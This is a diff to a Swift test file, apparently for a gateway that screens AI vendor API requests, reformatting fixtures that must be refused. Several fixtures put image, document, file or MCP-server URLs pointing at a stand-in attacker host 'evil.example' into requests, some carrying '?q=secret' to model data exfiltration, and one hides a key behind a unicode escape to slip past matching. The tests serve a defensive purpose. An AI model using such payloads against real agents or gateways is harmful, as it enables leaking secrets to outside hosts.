@@ -86,7 +86,7 @@ import Vocabulary
     }
 
     @Test(
-        "refuses a compressed body, whose metering nobody can judge, and lets the same one through uncompressed",
+        "refuses a compressed body, which nobody can judge, and lets the same one through uncompressed",
         arguments: ["gzip", "zstd", "identity, gzip"])
     func compressed(encoding: String) throws {
         let rehearsed = try Rehearsed(.openaiResponses)
@@ -102,7 +102,7 @@ import Vocabulary
     }
 
     @Test(
-        "refuses to have the vendor reach other hosts for the agent: its own tools, connectors, addresses to fetch",
+        "refuses to have the vendor reach other hosts: by its own tools, connectors, addresses to fetch",
         arguments: [
             (ModelDialect.anthropicMessages, #""tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]"#),
             (.anthropicMessages, #""tools":[{"name":"a"},{"type":"web_search_20250305","name":"s"}]"#),
@@ -112,15 +112,24 @@ import Vocabulary
             (.anthropicMessages, #""mcp_servers":[{"type":"url","url":"https://evil.example","name":"e"}]"#),
             (
                 .anthropicMessages,
-                #""messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://evil.example/?q=secret"}}]}]"#
+                #"""
+                "messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"h\#
+                ttps://evil.example/?q=secret"}}]}]
+                """#
             ),
             (
                 .anthropicMessages,
-                #""messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"document","source":{"type":"url","url":"https://evil.example"}}]}]}]"#
+                #"""
+                "messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","conten\#
+                t":[{"type":"document","source":{"type":"url","url":"https://evil.example"}}]}]}]
+                """#
             ),
             (
                 .anthropicMessages,
-                #""messages":[{"role":"user","content":[{"type":"image","source":{"typ\u0065":"url","url":"https://evil.example"}}]}]"#
+                #"""
+                "messages":[{"role":"user","content":[{"type":"image","source":{"typ\u0065":"url","ur\#
+                l":"https://evil.example"}}]}]
+                """#
             ),
             (.openaiResponses, #""tools":[{"type":"web_search"}]"#),
             (
@@ -129,22 +138,34 @@ import Vocabulary
             ),
             (
                 .openaiResponses,
-                #""tools":[{"type":"namespace","name":"n","tools":[{"type":"mcp","server_url":"https://evil.example"}]}]"#
+                #"""
+                "tools":[{"type":"namespace","name":"n","tools":[{"type":"mcp","server_url":"https://\#
+                evil.example"}]}]
+                """#
             ),
             (.openaiResponses, #""tools":[{"type":"code_interpreter","container":{"type":"auto"}}]"#),
             (.openaiResponses, #""tools":{"type":"function"}"#),
             (
                 .openaiResponses,
-                #""input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.example/?q=secret"}]}]"#
+                #"""
+                "input":[{"role":"user","content":[{"type":"input_image","image_url":"https://evil.ex\#
+                ample/?q=secret"}]}]
+                """#
             ),
             (
                 .openaiResponses,
-                #""input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.example"}]}]"#
+                #"""
+                "input":[{"role":"user","content":[{"type":"input_file","file_url":"https://evil.exam\#
+                ple"}]}]
+                """#
             ),
             (.openaiChat, #""web_search_options":{}"#), (.openaiChat, #""plugins":[{"id":"web"}]"#),
             (
                 .openaiChat,
-                #""messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://evil.example"}}]}]"#
+                #"""
+                "messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https:/\#
+                /evil.example"}}]}]
+                """#
             ),
         ])
     func remoteReach(dialect: ModelDialect, member: String) throws {
@@ -162,15 +183,34 @@ import Vocabulary
         arguments: [
             (
                 ModelDialect.anthropicMessages,
-                #""tools":[{"name":"fetch","input_schema":{"type":"object","properties":{"url":{"type":"string"},"type":{"enum":["url"]}}}},{"type":"custom","name":"c"},{"type":"bash_20250124","name":"bash"}],"messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"fetch","input":{"type":"url","url":"https://example.com"}}]},{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AA=="}},{"type":"text","text":"{\"source\":{\"type\":\"url\",\"url\":\"https://x\"}}"}]}]"#
+                #"""
+                "tools":[{"name":"fetch","input_schema":{"type":"object","properties":{"url":{"type":\#
+                "string"},"type":{"enum":["url"]}}}},{"type":"custom","name":"c"},{"type":"bash_20250\#
+                124","name":"bash"}],"messages":[{"role":"assistant","content":[{"type":"tool_use","i\#
+                d":"t","name":"fetch","input":{"type":"url","url":"https://example.com"}}]},{"role":"\#
+                user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","\#
+                data":"AA=="}},{"type":"text","text":"{\"source\":{\"type\":\"url\",\"url\":\"https:/\#
+                /x\"}}"}]}]
+                """#
             ),
             (
                 .openaiResponses,
-                #""tools":[{"type":"function","name":"view_image","parameters":{"properties":{"image_url":{"type":"string"}}}},{"type":"custom","name":"apply_patch"},{"type":"namespace","name":"n","tools":[{"type":"function","name":"f"}]}],"input":[{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,AA=="},{"type":"input_text","text":"https://example.com"}]},{"type":"function_call","arguments":"{\"image_url\":\"https://x\"}"}]"#
+                #"""
+                "tools":[{"type":"function","name":"view_image","parameters":{"properties":{"image_ur\#
+                l":{"type":"string"}}}},{"type":"custom","name":"apply_patch"},{"type":"namespace","n\#
+                ame":"n","tools":[{"type":"function","name":"f"}]}],"input":[{"role":"user","content"\#
+                :[{"type":"input_image","image_url":"data:image/png;base64,AA=="},{"type":"input_text\#
+                ","text":"https://example.com"}]},{"type":"function_call","arguments":"{\"image_url\"\#
+                :\"https://x\"}"}]
+                """#
             ),
             (
                 .openaiChat,
-                #""tools":[{"type":"function","function":{"name":"f","parameters":{}}}],"messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,AA=="}},{"type":"text","text":"hello"}]}]"#
+                #"""
+                "tools":[{"type":"function","function":{"name":"f","parameters":{}}}],"messages":[{"r\#
+                ole":"user","content":[{"type":"image_url","image_url":{"url":"data:image/png;base64,\#
+                AA=="}},{"type":"text","text":"hello"}]}]
+                """#
             ),
         ])
     func ownTools(dialect: ModelDialect, members: String) throws {
